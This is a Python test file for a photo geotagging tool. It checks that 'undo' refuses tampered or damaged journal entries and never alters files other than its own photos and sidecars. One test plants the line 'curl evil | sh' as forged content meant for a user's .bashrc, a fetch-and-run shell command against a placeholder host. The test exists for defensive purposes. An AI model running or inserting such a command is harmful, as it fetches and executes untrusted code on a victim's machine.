"""An index is nobody's signature: what it asks for is done only where the file proves that it was ours, and a
damaged row costs its own photo only."""

import os
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import xxhash

from geotagger.index import open_index
from geotagger.metadata import Edit
from geotagger.metadata.edit import Patch
from tests.commands import Geotagger
from tests.tag.scenes import Scene, bytes_of, walk_through_town


@pytest.fixture
def tagged(geotagger: Geotagger, tmp_path: Path) -> tuple[Scene, dict[str, bytes]]:
    scene = walk_through_town(tmp_path / "photos", 8, size=32)
    before = bytes_of(scene.folder)
    geotagger("tag", "--model", "none", scene.folder)
    return scene, before


def edit_for(target: Path, now: bytes, then: bytes, **more: Any) -> Edit:
    """The edit that a writer of `now` over `then` would have left, hashes and all."""
    return Edit(**{**_fields(target, now, then), **more})


def _fields(target: Path, now: bytes, then: bytes) -> dict[str, Any]:
    return {
        "target": str(target),
        "photo": str(target),
        "kind": "exif",
        "created": False,
        "patches": (Patch(0, len(now), then),),
        "old_size": len(then),
        "new_size": len(now),
        "kept_hash": xxhash.xxh3_128_hexdigest(b""),
        "added_hash": xxhash.xxh3_128_hexdigest(now),
        "mtime_ns": 0,
        "latitude": 48.2,
        "longitude": 16.4,
        "method": "geotagger estimate; rung=neighbours",
    }


def tamper(geotagger: Geotagger, edit: object, photo: Path | None = None) -> None:
    """Puts an edit in the place of the journal's first, and where told moves its row to another photo."""
    with open_index(geotagger.index) as index:
        blob = edit.to_json().encode() if isinstance(edit, Edit) else edit
        (first,) = index.store.row("select min(id) from journal where state = 'done'")
        index.store.execute("update journal set edit = ? where id = ?", (blob, first))
        if photo is not None:
            index.store.execute(
                "update journal set path = ?, photo_id = null where id = ?", (str(photo), first)
            )


BASHRC = b"alias ll='ls -l'\n"


@pytest.mark.parametrize("name", [".bashrc", "evil.xmp", "evil.jpg"])
@pytest.mark.usefixtures("tagged")
@pytest.mark.parametrize("is_removal", [False, True])
def test_no_file_but_a_photo_of_ours_is_changed(
    geotagger: Geotagger, tmp_path: Path, name: str, is_removal: bool
) -> None:
    target = tmp_path / "home" / name
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(BASHRC)
    method = None if is_removal else "geotagger estimate; rung=neighbours"
    tamper(geotagger, edit_for(target, BASHRC, b"curl evil | sh\n", method=method), target)
    assert str(target) in geotagger("undo", "--dry-run").out + geotagger("undo", "--dry-run", "--json").out
    said = geotagger("undo", "--yes", code=1)
    assert target.read_bytes() == BASHRC
    assert str(target) in said.err + said.out


@pytest.mark.usefixtures("tagged")
@pytest.mark.parametrize("name", [".bashrc", "holiday.xmp", "IMG_0001.jpg.xmp"])
def test_nothing_is_unlinked_but_a_sidecar_of_ours(geotagger: Geotagger, tmp_path: Path, name: str) -> None:
    target = tmp_path / "home" / name
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(BASHRC)
    edit = edit_for(target, BASHRC, b"", created=True, kind="sidecar", mtime_ns=None)
    tamper(geotagger, edit, target)
    geotagger("undo", "--yes", code=1)
    assert target.read_bytes() == BASHRC


@pytest.mark.parametrize("where", ["scan", "camera", "whole"])
def test_of_a_photo_of_ours_nothing_but_gps_is_changed(
    geotagger: Geotagger, tagged: tuple[Scene, dict[str, bytes]], where: str
) -> None:
    scene, before = tagged
    photo = scene.folder / min(scene.stripped)
    now = photo.read_bytes()
    then = bytearray(before[photo.name])
    if where == "scan":
        then[-20] ^= 0x55
    elif where == "camera":
        at = then.index(b"Testmaker")
        then[at : at + 4] = b"EVIL"
    else:
        other = scene.folder / max(scene.truth.keys() - scene.stripped)
        then = bytearray(other.read_bytes())
    tamper(geotagger, edit_for(photo, now, bytes(then)))
    said = geotagger("undo", "--yes", code=1)
    changed = [name for name in scene.stripped if (scene.folder / name).read_bytes() != before[name]]
    assert len(changed) == 1, "the rest is undone"
    assert "no write of ours" in said.err + said.out


DAMAGED = (b"\xff\xfe", b"[]", "text")
DAMAGED_OTHERWISE = (
    b"", b"[" * 100_000, b'{"version": 99}', b'{"version": 1}', 7,
    b'{"version":1,"patches":[[0,1,"%%%"]],"target":"/a","photo":"/a"}',
    b'{"version":1,"patches":5,"target":"/a","photo":"/a"}',
)  # fmt: skip


@pytest.mark.parametrize(
    "edit",
    [*DAMAGED, *(pytest.param(edit, marks=pytest.mark.slow) for edit in DAMAGED_OTHERWISE)],
    ids=lambda edit: repr(edit)[:24],
)
def test_a_damaged_row_of_the_journal_is_named_and_the_rest_is_undone(
    geotagger: Geotagger, tagged: tuple[Scene, dict[str, bytes]], edit: object
) -> None:
    scene, before = tagged
    tamper(geotagger, edit)
    for command in (["runs"], ["query"], ["why", scene.folder / "IMG_0001.jpg"], ["undo", "--dry-run"]):
        geotagger(*command, code=None)
    said = geotagger("undo", "--yes", code=1)
    assert "of the journal is damaged" in said.err + said.out
    changed = [name for name in scene.stripped if (scene.folder / name).read_bytes() != before[name]]
    assert len(changed) == 1
    geotagger("tag", "--model", "none", scene.folder, code=None)


@pytest.mark.parametrize(
    "change",
    [{"patches": (Patch(-1, 1, b""),)}, {"patches": (Patch(0, 1 << 70, b""),)}, {"old_size": -5},
     {"new_size": 1 << 64}, {"new_size": "many"}, {"target": "relative"}, {"target": "/a\0b"}, {"photo": 3},
     {"kind": "other"}, {"kept_hash": None}, {"latitude": "north"}, {"method": 5}, {"mtime_ns": "x"},
     {"created": "yes"}],
    ids=lambda change: "-".join(map(str, change)),
)  # fmt: skip
def test_values_that_no_edit_has_are_no_edit(tmp_path: Path, change: dict[str, Any]) -> None:
    sound = edit_for(tmp_path / "a.jpg", b"now", b"then")
    assert Edit.from_json(sound.to_json()) == sound
    with pytest.raises(ValueError, match=r"no edit has|overlap|add up"):
        Edit.from_json(replace(sound, **change).to_json())


def test_honest_undo_of_a_moved_archive_and_of_a_sidecar_folder_still_works(
    geotagger: Geotagger, tmp_path: Path
) -> None:
    scene = walk_through_town(tmp_path / "photos", 8, size=32)
    before = bytes_of(scene.folder)
    geotagger(
        "tag", "--model", "none", "--write", "sidecar", "--sidecar-folder", tmp_path / "xmp", scene.folder
    )
    assert any((tmp_path / "xmp").rglob("*.xmp"))
    geotagger("undo", "--yes")
    assert not any((tmp_path / "xmp").rglob("*.xmp"))
    geotagger("tag", "--model", "none", "--again", scene.folder)
    moved = tmp_path / "moved"
    os.rename(scene.folder, moved)
    geotagger("tag", "--model", "none", moved)
    geotagger("undo", "--yes")
    assert bytes_of(moved) == before
